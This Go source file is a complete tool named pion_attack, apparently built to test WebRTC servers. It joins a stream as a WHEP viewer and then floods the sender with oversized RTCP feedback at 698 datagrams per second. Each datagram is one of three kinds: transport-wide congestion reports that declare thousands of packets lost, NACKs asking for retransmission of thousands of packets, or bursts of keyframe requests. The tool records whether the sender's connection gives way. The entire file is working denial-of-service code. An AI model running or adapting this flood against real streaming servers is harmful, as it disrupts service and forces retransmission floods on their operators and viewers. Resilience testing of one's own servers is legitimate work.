// pion_attack is a viewer that floods the sender with feedback of one kind, each datagram as full as it may be. It joins by WHEP, says
// "ready", waits for a line or the end of its standard input, attacks for so many seconds, and prints one line of JSON: how many
// datagrams it has sent, and after how many seconds its connection ended, null if it did not.
//
// feedback: 48 reports of transport-wide feedback, each of the newest 8,191 packets, of which none has arrived.
// nack: 4,301 packets, the newest ones that came.
// fir: 148 requests for a keyframe.
//
// Usage: pion_attack feedback|nack|fir URL TOKEN SECONDS [ADDRESS]: the address is the one that all comes from.
package main

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"github.com/pion/interceptor"
	"github.com/pion/rtcp"
	"github.com/pion/rtp"
	"github.com/pion/sdp/v3"
	"github.com/pion/webrtc/v3"
	"peers/whep"
)

const (
	connectTimeout     = 20 * time.Second
	datagramsPerSecond = 698
	reports            = 48
	statuses           = 8191
	// More Pion does not put into a packet.
	pairs    = 253
	requests = 148
)

type outcome struct {
	Sent         int      `json:"sent"`
	RefusedAfter *float64 `json:"refused_after"`
}

// target is what the attacker knows of the stream, and how often it has attacked.
type target struct {
	// Of the newest packet: its number, and the one among all packets of the sender.
	ssrc, number, transportNumber atomic.Uint32
	count                         int
}

var attacks = map[string]func(*target) rtcp.Packet{"feedback": feedback, "nack": nack, "fir": fir}

func main() {
	if len(os.Args) < 5 || attacks[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "usage: pion_attack feedback|nack|fir URL TOKEN SECONDS [ADDRESS]")
		os.Exit(2)
	}
	seconds, err := strconv.ParseFloat(os.Args[4], 64)
	if err != nil {
		fmt.Fprintln(os.Stderr, "SECONDS must be a number")
		os.Exit(2)
	}
	if len(os.Args) > 5 {
		whep.From = net.ParseIP(os.Args[5])
	}
	result, err := run(os.Args[1], os.Args[2], os.Args[3], time.Duration(seconds*float64(time.Second)))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	line, _ := json.Marshal(result)
	fmt.Println(string(line))
}

func run(name, url, token string, length time.Duration) (outcome, error) {
	feedback := []webrtc.RTCPFeedback{{Type: "ccm", Parameter: "fir"}, {Type: "nack"}, {Type: "nack", Parameter: "pli"}}
	// A sender that waits for reports of its numbers sends little to those who make none.
	if name == "feedback" {
		feedback = append(feedback, webrtc.RTCPFeedback{Type: "transport-cc"})
	}
	api, err := whep.NewAPI([]string{"VP8"}, feedback, numberPackets)
	if err != nil {
		return outcome{}, err
	}
	connection, err := api.NewPeerConnection(webrtc.Configuration{})
	if err != nil {
		return outcome{}, err
	}
	defer connection.Close()
	victim, arrived, ended := &target{}, make(chan struct{}, 1), make(chan struct{}, 1)
	connection.OnConnectionStateChange(func(state webrtc.PeerConnectionState) {
		if state > webrtc.PeerConnectionStateConnected {
			signal(ended)
		}
	})
	connection.OnTrack(func(track *webrtc.TrackRemote, receiver *webrtc.RTPReceiver) {
		if track.Codec().MimeType != webrtc.MimeTypeVP8 {
			return
		}
		for {
			packet, _, err := track.ReadRTP()
			if err != nil {
				signal(ended)
				return
			}
			victim.see(packet, receiver)
			signal(arrived)
		}
	})
	offer, err := whep.Offer(connection)
	if err != nil {
		return outcome{}, err
	}
	// Pion ends kinds of feedback that have no parameter with a space, by which they are others.
	session, _, err := whep.Post(url, token, strings.ReplaceAll(offer, " \r\n", "\r\n"))
	if err != nil {
		return outcome{}, err
	}
	defer session.Delete()
	if err := whep.Accept(connection, session.Answer); err != nil {
		return outcome{}, err
	}
	select {
	case <-arrived:
	case <-time.After(connectTimeout):
		return outcome{}, fmt.Errorf("no packet has come after %v", connectTimeout)
	}
	fmt.Println("ready")
	bufio.NewReader(os.Stdin).ReadString('\n')
	return victim.flood(attacks[name], connection, length, ended)
}

// numberPackets makes known what a sender needs to number all its packets: the header extension, and a stream of its own for those that
// are sent again (RFC 4588).
func numberPackets(media *webrtc.MediaEngine, registry *interceptor.Registry) error {
	extension := webrtc.RTPHeaderExtensionCapability{URI: sdp.TransportCCURI}
	if err := media.RegisterHeaderExtension(extension, webrtc.RTPCodecTypeVideo); err != nil {
		return err
	}
	again := webrtc.RTPCodecCapability{MimeType: "video/rtx", ClockRate: 90000, SDPFmtpLine: "apt=96"}
	parameters := webrtc.RTPCodecParameters{RTPCodecCapability: again, PayloadType: 97}
	if err := media.RegisterCodec(parameters, webrtc.RTPCodecTypeVideo); err != nil {
		return err
	}
	return webrtc.ConfigureRTCPReports(registry)
}

// signal tells something once, however often it happens.
func signal(channel chan struct{}) {
	select {
	case channel <- struct{}{}:
	default:
	}
}

func (t *target) flood(attack func(*target) rtcp.Packet, connection *webrtc.PeerConnection, length time.Duration,
	ended chan struct{}) (outcome, error) {
	result, began, tick := outcome{}, time.Now(), time.NewTicker(time.Millisecond)
	defer tick.Stop()
	for elapsed := time.Duration(0); elapsed < length; elapsed = time.Since(began) {
		seconds := elapsed.Seconds()
		select {
		case <-ended:
			return outcome{result.Sent, &seconds}, nil
		case <-tick.C:
		}
		for due := int(seconds * datagramsPerSecond); result.Sent < due; result.Sent++ {
			datagram, err := attack(t).Marshal()
			if err != nil {
				return outcome{}, err
			}
			raw := rtcp.RawPacket(datagram)
			if err := connection.WriteRTCP([]rtcp.Packet{&raw}); err != nil {
				return outcome{result.Sent, &seconds}, nil
			}
			t.count++
		}
	}
	return result, nil
}

func (t *target) see(packet *rtp.Packet, receiver *webrtc.RTPReceiver) {
	t.ssrc.Store(packet.SSRC)
	t.number.Store(uint32(packet.SequenceNumber))
	for _, extension := range receiver.GetParameters().HeaderExtensions {
		if extension.URI != sdp.TransportCCURI {
			continue
		}
		if number := packet.GetExtension(uint8(extension.ID)); len(number) == 2 {
			t.transportNumber.Store(uint32(binary.BigEndian.Uint16(number)))
		}
	}
}

// feedback is draft-holmer-rmcat-transport-wide-cc-extensions-01 §3.1, as Pion would not put it together.
func feedback(t *target) rtcp.Packet {
	const size = 24
	datagram := make([]byte, 0, reports*size)
	first := (t.transportNumber.Load() - statuses + 1) & 0xFFFF
	for report := 0; report < reports; report++ {
		words := []uint32{
			0x8F<<24 | 205<<16 | (size/4 - 1), 0, t.ssrc.Load(), first<<16 | statuses,
			uint32(uint8(t.count*reports + report)), statuses << 16,
		}
		for _, word := range words {
			datagram = binary.BigEndian.AppendUint32(datagram, word)
		}
	}
	packet := rtcp.RawPacket(datagram)
	return &packet
}

func nack(t *target) rtcp.Packet {
	newest := uint16(t.number.Load())
	packet := &rtcp.TransportLayerNack{MediaSSRC: t.ssrc.Load()}
	for pair := uint16(0); pair < pairs; pair++ {
		// Each names a packet and the sixteen after it.
		first := newest - 17*(pair+1)
		packet.Nacks = append(packet.Nacks, rtcp.NackPair{PacketID: first, LostPackets: 0xFFFF})
	}
	return packet
}

func fir(t *target) rtcp.Packet {
	packet := &rtcp.FullIntraRequest{}
	for request := 0; request < requests; request++ {
		number := uint8(t.count*requests + request)
		packet.FIR = append(packet.FIR, rtcp.FIREntry{SSRC: t.ssrc.Load(), SequenceNumber: number})
	}
	return packet
}
